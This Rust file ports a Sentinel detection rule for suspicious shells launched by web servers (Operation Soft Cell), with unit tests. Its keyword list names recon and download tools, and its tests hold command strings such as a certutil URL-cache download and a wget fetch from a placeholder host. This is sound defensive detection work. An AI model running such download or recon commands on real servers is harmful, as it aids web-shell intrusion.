//! *Detect Suspicious Commands Initiated by Webserver Processes* (Operation Soft Cell),
//! Microsoft Sentinel analytic rule fa2f7d8a-6726-465a-aa72-6f6e3d4c99d7, ported stage for
//! stage from its KQL:
//!
//! ```kql
//! DeviceProcessEvents
//! | where (((InitiatingProcessParentFileName in("w3wp.exe", "beasvc.exe", "httpd.exe") or InitiatingProcessParentFileName startswith "tomcat")
//!     or InitiatingProcessFileName in("w3wp.exe", "beasvc.exe", "httpd.exe") or InitiatingProcessFileName startswith "tomcat"))
//!     and FileName in~('cmd.exe','powershell.exe')
//! | where ProcessCommandLine contains '%temp%' or ProcessCommandLine has 'wget' or ProcessCommandLine has 'whoami'
//!     or ProcessCommandLine has 'certutil' or ProcessCommandLine has 'systeminfo' or ProcessCommandLine has 'ping'
//!     or ProcessCommandLine has 'ipconfig' or ProcessCommandLine has 'timeout'
//! | summarize take_any(FileName), make_set(ProcessCommandLine, 100000), take_any(InitiatingProcessFileName),
//!     take_any(InitiatingProcessParentFileName) by DeviceId, DeviceName
//! | extend HostName = iff(DeviceName has '.', substring(DeviceName, 0, indexof(DeviceName, '.')), DeviceName)
//! | extend DnsDomain = iff(DeviceName has '.', substring(DeviceName, indexof(DeviceName, '.') + 1), "")
//! ```

use rulehost_sdk::aggregate::{group_by, make_set, take_any};
use rulehost_sdk::{
    Alert, Event, EventSource, Field, Indicator, Metadata, Operator, Rule, Severity, Window, kql,
};

/// Web server processes, matched with `in` (case-sensitive).
const WEB_SERVERS: &[&str] = &["w3wp.exe", "beasvc.exe", "httpd.exe"];
/// Web server process prefix, matched with `startswith`.
const WEB_SERVER_PREFIX: &str = "tomcat";
/// Shells, matched with `in~`.
const SHELLS: &[&str] = &["cmd.exe", "powershell.exe"];
/// Matched with `contains`.
const TEMP_DIR: &str = "%temp%";
/// Matched with `has`.
const RECON_TOOLS: &[&str] = &["wget", "whoami", "certutil", "systeminfo", "ping", "ipconfig", "timeout"];
/// The same, analysed for [`kql::has_any`] when the rule is compiled.
const RECON_TERMS: kql::Terms = kql::Terms::new(RECON_TOOLS);
/// `make_set(ProcessCommandLine, 100000)`.
const MAX_COMMAND_LINES: usize = 100_000;

/// The rule.
#[derive(Debug)]
pub struct SoftCell;

impl Rule for SoftCell {
    const METADATA: Metadata = Metadata {
        id: "fa2f7d8a-6726-465a-aa72-6f6e3d4c99d7",
        version: env!("CARGO_PKG_VERSION"),
        title: "Detect Suspicious Commands Initiated by Webserver Processes",
        description: "Finds cmd.exe or powershell.exe started by a web server process \
            (w3wp.exe, beasvc.exe, httpd.exe, Tomcat), directly or through one intermediate \
            process, with a command line that stages files in %temp% or runs reconnaissance \
            tools (whoami, ipconfig, ping, systeminfo, certutil, wget, timeout). Operation Soft \
            Cell, a campaign against telecommunications providers, ran such commands through \
            web shells.",
        severity: Severity::High,
        tactics: &["Execution", "Persistence", "PrivilegeEscalation", "DefenseEvasion", "Discovery"],
        techniques: &["T1059", "T1574", "T1082", "T1087"],
        coverage: &[
            EventSource::SysmonProcessCreate,
            EventSource::SecurityProcessCreate,
            EventSource::DefenderDeviceProcessEvents,
        ],
        reads: &[
            Field::InitiatingProcessParentFileName,
            Field::InitiatingProcessFileName,
            Field::FileName,
            Field::ProcessCommandLine,
        ],
        summary_reads: &[
            Field::DeviceId,
            Field::DeviceName,
            Field::FileName,
            Field::ProcessCommandLine,
            Field::InitiatingProcessFileName,
            Field::InitiatingProcessParentFileName,
        ],
        indicators: &[
            Indicator {
                field: Field::InitiatingProcessParentFileName,
                operator: Operator::InCs,
                values: WEB_SERVERS,
            },
            Indicator {
                field: Field::InitiatingProcessParentFileName,
                operator: Operator::Startswith,
                values: &[WEB_SERVER_PREFIX],
            },
            Indicator {
                field: Field::InitiatingProcessFileName,
                operator: Operator::InCs,
                values: WEB_SERVERS,
            },
            Indicator {
                field: Field::InitiatingProcessFileName,
                operator: Operator::Startswith,
                values: &[WEB_SERVER_PREFIX],
            },
            Indicator { field: Field::FileName, operator: Operator::InCi, values: SHELLS },
            Indicator { field: Field::ProcessCommandLine, operator: Operator::Contains, values: &[TEMP_DIR] },
            Indicator { field: Field::ProcessCommandLine, operator: Operator::Has, values: RECON_TOOLS },
        ],
        query_period_seconds: 3600,
        query_frequency_seconds: 3600,
    };

    fn matches(event: &Event<'_>) -> bool {
        let is_web_server =
            |name: &str| kql::in_cs(name, WEB_SERVERS) || kql::startswith(name, WEB_SERVER_PREFIX);
        let command_line = event.process_command_line();
        (is_web_server(event.initiating_process_parent_file_name())
            || is_web_server(event.initiating_process_file_name()))
            && kql::in_ci(event.file_name(), SHELLS)
            && (kql::contains(command_line, TEMP_DIR) || kql::has_any(command_line, RECON_TERMS))
    }

    fn summarize(_window: Window, matched: &[Event<'_>]) -> Vec<Alert> {
        group_by(matched, |e| (e.device_id(), e.device_name()))
            .into_iter()
            .map(|group| {
                let first = &matched[group[0]];
                let device_name = first.device_name();
                let (host_name, dns_domain) = split_device_name(device_name);
                Alert::new(group.iter().copied())
                    .text("DeviceId", first.device_id())
                    .text("DeviceName", device_name)
                    .text("FileName", take_any(matched, &group, Field::FileName))
                    .texts(
                        "set_ProcessCommandLine",
                        make_set(matched, &group, Field::ProcessCommandLine, MAX_COMMAND_LINES),
                    )
                    .text(
                        "InitiatingProcessFileName",
                        take_any(matched, &group, Field::InitiatingProcessFileName),
                    )
                    .text(
                        "InitiatingProcessParentFileName",
                        take_any(matched, &group, Field::InitiatingProcessParentFileName),
                    )
                    .text("HostName", host_name)
                    .text("DnsDomain", dns_domain)
            })
            .collect()
    }
}

/// The two `extend` stages: `HostName` is `DeviceName` up to its first `.`, `DnsDomain`
/// the rest; without a `.` the whole name is the host and the domain is empty.
fn split_device_name(device_name: &str) -> (&str, &str) {
    if kql::has(device_name, ".") {
        device_name.split_once('.').unwrap_or((device_name, ""))
    } else {
        (device_name, "")
    }
}

rulehost_sdk::export_rule!(SoftCell);

#[cfg(test)]
mod tests {
    use super::*;
    use rulehost_sdk::Batch;

    fn process(parent: &str, grandparent: &str, file: &str, command_line: &str) -> Batch {
        Batch::from_rows(&[&[
            (Field::InitiatingProcessParentFileName, grandparent),
            (Field::InitiatingProcessFileName, parent),
            (Field::FileName, file),
            (Field::ProcessCommandLine, command_line),
        ]])
    }

    fn matches(parent: &str, grandparent: &str, file: &str, command_line: &str) -> bool {
        SoftCell::matches(&process(parent, grandparent, file, command_line).event(0))
    }

    #[test]
    fn web_server_parent_or_grandparent() {
        assert!(matches("w3wp.exe", "", "cmd.exe", "cmd /c whoami"));
        assert!(matches("httpd.exe", "", "cmd.exe", "cmd /c whoami"));
        assert!(matches("beasvc.exe", "", "cmd.exe", "cmd /c whoami"));
        assert!(matches("powershell.exe", "w3wp.exe", "cmd.exe", "cmd /c whoami"), "grandparent");
        assert!(matches("tomcat9.exe", "", "powershell.exe", "ping 10.0.0.1"));
        assert!(matches("java.exe", "Tomcat8.exe", "cmd.exe", "ping 10.0.0.1"), "startswith ignores case");
        assert!(!matches("W3WP.EXE", "", "cmd.exe", "cmd /c whoami"), "in is case-sensitive");
        assert!(!matches("node.exe", "", "cmd.exe", "cmd /d /s /c \"whoami\""));
        assert!(!matches("", "", "cmd.exe", "cmd /c whoami"));
    }

    #[test]
    fn shell_name_ignores_case() {
        assert!(matches("w3wp.exe", "", "CMD.EXE", "whoami"));
        assert!(matches("w3wp.exe", "", "PowerShell.exe", "whoami"));
        assert!(!matches("w3wp.exe", "", "pwsh.exe", "whoami"));
        assert!(!matches("w3wp.exe", "", "net.exe", "whoami"));
    }

    #[test]
    fn command_line_keywords() {
        for command_line in [
            "cmd.exe /c copy a %TEMP%\\b.exe",
            "cmd /c wget http://x/y",
            "cmd /c WHOAMI /all",
            "certutil -urlcache -split -f http://x/a",
            "cmd /c systeminfo",
            "cmd /c C:\\Windows\\System32\\PING.EXE -n 1 10.0.0.1",
            "cmd /c ipconfig/all",
            "cmd /c timeout /t 3",
        ] {
            assert!(matches("w3wp.exe", "", "cmd.exe", command_line), "{command_line}");
        }
        for command_line in [
            "cmd /c net user",
            "cmd /c pinging",
            "cmd /c echo d2hvYW1p",
            "cmd /c copy a c:\\temp\\b",
            "powershell -enc dwBoAG8AYQBtAGkA",
            "",
        ] {
            assert!(!matches("w3wp.exe", "", "cmd.exe", command_line), "{command_line}");
        }
    }

    #[test]
    fn summarize_groups_by_device_and_splits_the_name() {
        let batch = Batch::from_rows(&[
            &[
                (Field::DeviceId, "d1"),
                (Field::DeviceName, "web01.contoso.com"),
                (Field::FileName, "cmd.exe"),
                (Field::ProcessCommandLine, "cmd /c whoami"),
                (Field::InitiatingProcessFileName, "w3wp.exe"),
            ],
            &[
                (Field::DeviceId, "d2"),
                (Field::DeviceName, "db01"),
                (Field::FileName, "powershell.exe"),
                (Field::ProcessCommandLine, "ping x"),
                (Field::InitiatingProcessFileName, "tomcat9.exe"),
            ],
            &[
                (Field::DeviceId, "d1"),
                (Field::DeviceName, "web01.contoso.com"),
                (Field::FileName, "cmd.exe"),
                (Field::ProcessCommandLine, "cmd /c ipconfig"),
                (Field::InitiatingProcessFileName, "w3wp.exe"),
                (Field::InitiatingProcessParentFileName, "svchost.exe"),
            ],
            &[
                (Field::DeviceId, "d1"),
                (Field::DeviceName, "web01.contoso.com"),
                (Field::ProcessCommandLine, "cmd /c whoami"),
            ],
        ]);
        let events: Vec<_> = (0..batch.len()).map(|i| batch.event(i)).collect();
        let alerts = SoftCell::summarize(Window { start_ms: 0, end_ms: 3_600_000 }, &events);
        assert_eq!(alerts.len(), 2);
        let web = &alerts[0];
        assert_eq!(web.events(), [0, 2, 3]);
        let text = |a: &Alert, c: &str| match a.column(c) {
            Some(rulehost_sdk::Value::Text(s)) => s.clone(),
            other => panic!("{c}: {other:?}"),
        };
        assert_eq!(text(web, "HostName"), "web01");
        assert_eq!(text(web, "DnsDomain"), "contoso.com");
        assert_eq!(text(web, "FileName"), "cmd.exe");
        assert_eq!(text(web, "InitiatingProcessParentFileName"), "svchost.exe", "take_any prefers non-empty");
        assert_eq!(
            web.column("set_ProcessCommandLine"),
            Some(&rulehost_sdk::Value::Texts(vec!["cmd /c whoami".into(), "cmd /c ipconfig".into()]))
        );
        let names: Vec<&str> = web.columns().iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(
            names,
            [
                "DeviceId",
                "DeviceName",
                "FileName",
                "set_ProcessCommandLine",
                "InitiatingProcessFileName",
                "InitiatingProcessParentFileName",
                "HostName",
                "DnsDomain"
            ]
        );
        let db = &alerts[1];
        assert_eq!(db.events(), [1]);
        assert_eq!(text(db, "HostName"), "db01");
        assert_eq!(text(db, "DnsDomain"), "");
    }

    #[test]
    fn device_name_split() {
        assert_eq!(split_device_name("a.b.c"), ("a", "b.c"));
        assert_eq!(split_device_name("host"), ("host", ""));
        assert_eq!(split_device_name(""), ("", ""));
        assert_eq!(split_device_name(".x"), ("", "x"));
    }
}
